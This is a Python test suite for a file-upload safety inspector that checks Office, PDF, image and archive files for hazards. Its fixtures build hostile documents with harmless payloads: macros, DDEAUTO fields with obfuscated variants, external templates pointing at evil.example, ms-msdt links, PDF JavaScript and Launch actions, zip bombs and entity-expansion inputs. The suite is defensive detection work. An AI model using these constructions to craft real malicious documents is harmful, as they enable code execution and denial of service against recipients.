import io
import resource
import zipfile

import pikepdf
import pytest
from docx import Document
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook
from PIL import Image

from portal.casework.safety import Level, inspect
from tests.casework.oldoffice import old_office, records


def picture(kind):
    target = io.BytesIO()
    Image.new("RGB", (40, 30), "red").save(target, kind)
    return target.getvalue()


def word():
    target = io.BytesIO()
    Document().save(target)
    return target.getvalue()


def sheet():
    target = io.BytesIO()
    Workbook().save(target)
    return target.getvalue()


def pdf(change=lambda document: None):
    document = pikepdf.new()
    document.add_blank_page()
    change(document)
    target = io.BytesIO()
    document.save(target)
    return target.getvalue()


def with_member(data, name, content):
    target = io.BytesIO(data)
    with zipfile.ZipFile(target, "a") as archive:
        archive.writestr(name, content)
    return target.getvalue()


def zipped(name=b"x", content=b"x"):
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name.decode(), content)
    return target.getvalue()


def texts(report):
    return " ".join(finding.text for finding in report.findings)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("照片.jpg", picture("JPEG")),
        ("照片.JPEG", picture("JPEG")),
        ("截图.png", picture("PNG")),
        ("图.webp", picture("WEBP")),
        ("证明.docx", word()),
        ("表.xlsx", sheet()),
        ("决定书.pdf", pdf()),
        ("老.doc", old_office(("WordDocument", b"text"))),
        ("老.xls", old_office(("Workbook", records((0x85, bytes(8)))))),
        ("录音.mp3", b"ID3" + bytes(100)),
    ],
)
def test_honest_files_have_no_findings(name, data):
    report = inspect(name, data)
    assert report.matches
    assert report.findings == ()
    assert report.worst is None


def javascript(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def launch(document):
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=action)
    document.pages[0].Annots = pikepdf.Array([document.make_indirect(link)])


def attachment(document):
    document.attachments["a.exe"] = b"MZ"


TEMPLATE = (
    b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" '
    b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("name", "data", "said"),
    [
        ("发票.pdf", b"MZ" + bytes(500), "内容却是Windows 程序"),
        ("图.png", b"<html><script>alert(1)</script>", "内容却是网页"),
        ("证明.docx", with_member(word(), "word/vbaProject.bin", b"x"), "含有宏"),
        (
            "证明.docx",
            with_member(word(), "word/_rels/settings.xml.rels", TEMPLATE),
            "外部加载模板",
        ),
        ("证明.docx", with_member(word(), "word/embeddings/a.bin", b"x"), "嵌有其他文件"),
        (
            "老.doc",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "Macros".encode("utf-16-le") + bytes(9),
            "宏",
        ),
        ("表.xlsx", with_member(sheet(), "xl/a.bin", b"x" * 10)[:-30], "损坏"),
        ("炸弹.docx", zipped(content=bytes(80_000_000)), "压缩炸弹"),
        ("决定书.pdf", pdf(javascript), "脚本"),
        ("决定书.pdf", pdf(javascript), "打开文档时会自动执行动作"),
        ("决定书.pdf", pdf(launch), "启动其他程序"),
        ("决定书.pdf", pdf(attachment), "内嵌1个附件"),
        ("决定书.pdf", b"%PDF-1.7 garbage", "损坏"),
        ("照片.jpg", picture("JPEG") + zipped(), "藏着一个压缩包"),
        ("决定书.pdf", pdf() + zipped(), "藏着一个压缩包"),
        ("照片.jpg", picture("JPEG") + b"<script>alert(1)</script>", "图片结束之后"),
        ("图.png", picture("PNG") + b"tail", "图片结束之后还有4字节"),
        ("资料.docx", zipped(), "内容却是ZIP 压缩包"),
    ],
)
def test_what_could_do_harm_is_said(name, data, said):
    report = inspect(name, data)
    assert said in texts(report)
    assert report.worst in (Level.DANGER, Level.CAUTION)


@given(data=st.binary(max_size=400), prefix=st.sampled_from([b"", b"PK\x03\x04", b"%PDF-1.4\n"]))
def test_any_bytes_get_a_report(data, prefix):
    assert inspect("文件.pdf", prefix + data).real_type


@given(cut=st.integers(0, 2000), flip=st.integers(0, 2000))
def test_damaged_documents_get_a_report(cut, flip):
    for name, whole in (("a.docx", _WORD), ("a.pdf", _PDF)):
        data = bytearray(whole[: max(len(whole) - cut, 1)])
        data[flip % len(data)] ^= 0xFF
        assert inspect(name, bytes(data)).real_type


_WORD, _PDF = word(), pdf(javascript)


def rels(kind, target="http://evil.example/x", **more):
    text = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/x/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )
    return text.encode(**more)


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def fields(*parts, head=""):
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in parts)
    return f"{head}<w:ftr {W}><w:p>{runs}</w:p></w:ftr>"


def formula(text):
    return f"<worksheet><sheetData><row><c><f>{text}</f></c></row></sheetData></worksheet>"


ENTITY = fields("&a;&b; c:\\x", head='<!DOCTYPE w [<!ENTITY a "DD"><!ENTITY b "EAUTO">]>')


def in_word(name, content):
    content = content if isinstance(content, bytes) else content.encode()
    return with_member(word(), name, content)


def in_sheet(name, content):
    return with_member(sheet(), name, content)


def direct_annotation(document):
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=action)
    document.pages[0].Annots = pikepdf.Array([link])


def next_action(document):
    after = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")
    first = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://x.example/", Next=[after])
    document.pages[0].Annots = [pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=first)]


def form_of_xml(document):
    document.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.Stream(document, b"<xdp/>"))


def packed(change):
    """With every dictionary in compressed object streams."""
    document = pikepdf.new()
    document.add_blank_page()
    change(document)
    target = io.BytesIO()
    document.save(target, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return target.getvalue()


def named(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.GoToR, F="\\\\evil\\a.pdf")


DDE = "DDE"


@pytest.mark.parametrize(
    ("name", "data", "said"),
    [
        # before the magic, and in other encodings
        ("决定书.pdf", b"junk\n" * 20 + pdf(javascript), "脚本"),
        ("决定书.pdf", b"junk\n" + pdf(), "PDF 开始之前还有5字节"),
        ("证明.docx", b"junk" + in_word("word/vbaProject.bin", b"x"), "含有宏"),
        ("图.png", b"\xef\xbb\xbf <!-- a --> <svg onload='x'>", "内容却是网页"),
        ("图.png", "<html><script>".encode("utf-16"), "内容却是网页"),
        ("图.png", "<html><script>".encode("utf-16-be"), "内容却是网页"),
        ("图.png", picture("PNG") + b"<script src=x>", "夹有网页代码"),
        ("证明.doc", b"MIME-Version: 1.0\nContent-Type: multipart", "内容却是网页"),
        ("证明.doc", b"[InternetShortcut]\nURL=file://x", "快捷方式"),
        ("证明.doc", b" {\\rtf1{\\object\\objdata 0105}}", "嵌有其他文件"),
        ("证明.doc", b"{\\rtf1{\\field DDEAUTO c:\\\\x}}", DDE),
        (
            "证明.docx",
            in_word("word/_rels/a.xml.rels", rels("attachedTemplate", encoding="utf-16")),
            "外部加载模板",
        ),
        ("证明.docx", in_word("word\\VBAPROJECT.BIN", b"x"), "含有宏"),
        # whatever the part is called
        ("证明.docx", in_word("word/_rels/a.xml.rels", rels("vbaProject", "a.bin")), "含有宏"),
        ("证明.docx", in_word("word/_rels/a.xml.rels", rels("oleObject")), "嵌有其他文件"),
        ("证明.docx", in_word("word/_rels/a.xml.rels", rels("image")), "打开时会连接网络"),
        (
            "证明.docx",
            in_word("word/_rels/a.xml.rels", rels("hyperlink", "ms-msdt:/id x")),
            "本机程序",
        ),
        (
            "证明.docx",
            in_word("word/_rels/a.xml.rels", rels("hyperlink", "file://h/s")),
            "共享文件夹",
        ),
        ("表.xlsx", in_sheet("xl/macrosheets/sheet1.xml", b"<a/>"), "Excel 4.0 宏表"),
        # fields, split and spelled
        ("证明.docx", in_word("word/footer9.xml", fields("DDEAUTO c:\\x")), DDE),
        ("证明.docx", in_word("word/footer9.xml", fields("D", "DE", "AUTO c:\\x")), DDE),
        ("证明.docx", in_word("word/footer9.xml", fields("QUOTE 68 68 69 65 85 84 79")), DDE),
        ("证明.docx", in_word("word/footer9.xml", ENTITY), DDE),
        ("证明.docx", in_word("word/footer9.xml", ENTITY), "实体"),
        (
            "证明.docx",
            in_word("word/footer9.xml", fields("INCLUDEPICTURE http://x.example/a")),
            "连接网络",
        ),
        ("证明.docx", in_word("word/footer9.xml", fields("a").encode("utf-16")[:-9]), "无法检查"),
        ("表.xlsx", in_sheet("xl/worksheets/s.xml", formula("cmd|'/c calc'!A1")), DDE),
        ("表.xlsx", in_sheet("xl/worksheets/s.xml", formula("WEBSERVICE(A1)")), "连接网络"),
        ("表.xlsx", in_sheet("xl/externalLinks/e.xml", "<x><ddeLink/></x>"), DDE),
        # old Office
        ("老.doc", old_office(("WordDocument", b"x"), storages=("Macros",)), "含有宏"),
        ("老.doc", old_office(("WordDocument", b" DDEAUTO c:\\x")), DDE),
        ("老.doc", old_office(("WordDocument", " DDEAUTO c:".encode("utf-16-le"))), DDE),
        ("老.doc", old_office(("\x01Ole10Native", b"x")), "嵌有其他文件"),
        ("老.doc", old_office(("EncryptedPackage", b"x")), "已加密"),
        (
            "老.xls",
            old_office(("Workbook", records((0x809, b"x"), (0x85, bytes(5) + b"\1")))),
            "宏表",
        ),
        # PDF: direct, chained, packed
        ("决定书.pdf", pdf(direct_annotation), "脚本"),
        ("决定书.pdf", pdf(next_action), "启动其他程序"),
        ("决定书.pdf", pdf(form_of_xml), "XFA"),
        ("决定书.pdf", packed(javascript), "脚本"),
        ("决定书.pdf", packed(direct_annotation), "脚本"),
        ("决定书.pdf", pdf(named), "打开另一个文件"),
        ("决定书.pdf", pdf(javascript).replace(b"/JavaScript", b"/J#61vaScript"), "脚本"),
        (
            "决定书.pdf",
            pdf(javascript).replace(b"startxref", b"nothing").replace(b"xref", b""),
            "脚本",
        ),
        # pictures
        ("图.webp", picture("WEBP") + b"tail..", "图片结束之后还有6字节"),
        ("照片.jpg", picture("JPEG") + b"x\xff\xd9", "图片结束之后还有3字节"),
        ("图.png", picture("PNG") + b"xIEND\xaeB\x60\x82", "图片结束之后还有9字节"),
    ],
)
def test_the_usual_tricks_are_found(name, data, said):
    assert said in texts(inspect(name, data))


def test_a_phone_s_second_picture_is_no_tail():
    double = picture("JPEG") + bytes(30) + picture("JPEG") + bytes(4)
    assert inspect("照片.jpg", double).findings == ()


def quadratic():
    """28 KB that held the desk for two minutes: a pattern that begins again at every tag."""
    return with_member(word(), "word/_rels/a.xml.rels", b"<Relationship " * 150_000)


def balloon():
    """1 MB of PDF that took 1.6 GB: an object stream full of small arrays."""
    document = pikepdf.new()
    document.add_blank_page()
    document.Root.Many = pikepdf.Array([pikepdf.Array([0]) for _ in range(400_000)])
    target = io.BytesIO()
    document.save(target, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return target.getvalue()


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("证明.docx", quadratic()),
        ("决定书.pdf", balloon()),
        ("证明.docx", in_word("word/a.xml", "<a>" * 200_000)),
        (
            "证明.docx",
            in_word(
                "word/a.xml",
                "<!DOCTYPE a [<!ENTITY a '" + "x" * 9999 + "'>]><a>" + "&a;" * 99_999 + "</a>",
            ),
        ),
    ],
)
def test_costly_files_get_a_report_and_the_desk_stays_small(name, data):
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    report = inspect(name, data)
    assert report.real_type
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert grown < 30_000 + 3 * len(data) // 1024  # KiB
